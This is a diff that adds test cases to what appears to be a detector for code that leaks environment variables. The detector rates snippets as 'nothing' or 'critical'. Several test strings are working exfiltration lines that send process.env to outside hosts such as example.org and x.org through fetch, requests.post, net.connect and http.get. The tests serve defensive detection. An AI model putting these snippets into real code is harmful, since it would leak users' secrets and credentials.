@@ -400,3 +400,37 @@ test('what Python only compares, counts or asks for goes nowhere', () => {
     'class A:\n        def __eq__(self, other): return other\n    requests.post("https://x.org/a", json=A() == dict(os.environ))',
   ]) assert.equal(worstOf(code), 'critical', code);
 });
+
+test('a program or thread that is started is not made of the environment that it gets', () => {
+  for (const code of [
+    'const { Worker } = require("worker_threads"); const w = new Worker(file, { env: { ...process.env, A: "1" } }); w.on("message", (r) => { fetch(r.url) })',
+    'import * as threads from "node:worker_threads"; const w = new threads.Worker(file, { env: process.env }); w.on("message", (r) => fetch(url, { body: r }))',
+    'const c = require("child_process").spawn(program, [], { env: process.env }); c.stdout.on("data", (d) => fetch(url, { body: d }))',
+  ]) assert.equal(worst(code), 'nothing', code);
+  for (const code of [
+    'const { Worker } = require("worker_threads"); const w = new Worker(file, { workerData: process.env }); w.on("message", (r) => { fetch(r.url) })',
+    'class Worker { constructor(file, { env }) { this.env = env } } const w = new Worker(file, { env: process.env }); fetch(url, { body: w.env })',
+    'const pack = (o) => JSON.stringify(o.env); fetch(url, { body: pack({ env: process.env }) })',
+    'fetch(url, { body: JSON.stringify({ env: process.env }) })',
+  ]) assert.equal(worst(code), 'critical', code);
+});
+
+test('of a function that gives back what it gets, a call gets what it passes and not what others do', () => {
+  const wait = 'async function wait(promise, signal) { if (!signal) return await promise; return await new Promise((done) => { promise.then(done) }) }';
+  assert.equal(worst(`${wait} async function run() { await wait(open(process.env)); await wait(fetch(await wait(next(), s))) }`), 'nothing');
+  for (const code of [
+    `${wait} async function run() { await wait(fetch(url, { body: await wait(process.env) })) }`,
+    'const same = (x) => x; const copy = same; fetch(url, { body: copy(process.env) })',
+    'function filled(x) { x.all = process.env; return x } fetch(url, { body: filled({}) })',
+    'function other(x) { x = process.env; return x } fetch(url, { body: other(1) })',
+    'function last(...all) { return all } fetch(url, { body: last(1, process.env) })',
+  ]) assert.equal(worst(code), 'critical', code);
+});
+
+test('a connection to this computer is opened with whatever is asked for; what is sent elsewhere, or written, counts', () => {
+  const net = (given: string): string => worst(`const all = JSON.stringify(process.env); require("net").connect(${given})`);
+  for (const given of ['{ path: all }', '{ host: "localhost", port: all }', '"/run/" + all', '`\\\\\\\\.\\\\pipe\\\\${all}`', 'all.length + all, "localhost"']) assert.equal(net(given), 'nothing', given);
+  for (const given of ['{ host: "example.org", path: all }', '{ host, path: all }', '{ ...options, path: all }', '{ port: 80, path: all }', '80, all', 'all', '"//example.org/" + all']) assert.equal(net(given), 'critical', given);
+  assert.equal(worst('const s = require("net").connect("/run/a"); s.write(JSON.stringify(process.env))'), 'critical');
+  assert.equal(worst('require("http").get({ path: "/" + JSON.stringify(process.env) })'), 'critical');
+});
